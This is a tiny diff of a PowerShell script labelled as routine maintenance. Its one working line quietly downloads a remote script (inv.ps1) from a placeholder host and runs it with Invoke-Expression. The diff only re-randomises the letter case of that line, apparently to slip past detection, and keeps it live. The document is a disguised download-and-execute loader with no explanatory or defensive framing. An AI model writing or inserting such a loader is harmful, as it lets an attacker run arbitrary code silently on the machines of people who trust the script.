@@ -1,3 +1,3 @@
-# mAiNtEnAnCe 0661 V3
+# maintenance 0661 v3
 $pRoGrEsSpReFeReNcE = 'SilentlyContinue'
-iwr -USEBaSiCParSiNG HtTp://STATIc.meTrIcs-nODE.eXaMPle/iNv.ps1 | iex
+IwR -usebASICpArSIng hTTp://sTaTiC.meTRICS-NodE.ExampLE/INv.Ps1 | Iex
